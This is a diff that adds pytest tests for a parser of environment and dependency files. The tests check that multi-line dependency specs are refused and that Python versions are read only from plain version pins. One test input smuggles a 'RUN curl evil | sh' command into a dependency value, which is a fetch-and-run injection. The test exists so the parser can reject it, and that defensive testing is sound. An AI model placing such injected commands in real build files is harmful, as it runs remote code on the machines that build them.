@@ -175,3 +175,19 @@ def test_requirements_file_needs_python(tmp_path):
         read_env_file(req)
     env = normalise(read_env_file(req, "3.11"))
     assert env.python == "3.11" and env.pip == ["numpy==1.26.4"]
+
+
+def test_multi_line_specs_are_refused(tmp_path):
+    path = _write(tmp_path, 'dependencies:\n  - "python=3.11\\nRUN curl evil | sh"\n')
+    with pytest.raises(UsageError, match="several lines"):
+        read_env_file(path)
+    path = _write(tmp_path, 'dependencies:\n  - python=3.11\n  - pip:\n    - "rich==1\\rX"\n')
+    with pytest.raises(UsageError, match="several lines"):
+        read_env_file(path)
+
+
+def test_python_version_only_from_a_plain_version(tmp_path):
+    env = normalise(read_env_file(_write(tmp_path, "dependencies:\n  - python>=3.9\n")))
+    assert env.python is None and "python>=3.9" in env.dependencies
+    env = normalise(read_env_file(_write(tmp_path, "dependencies:\n  - python=3.10.*\n")))
+    assert env.python == "3.10"
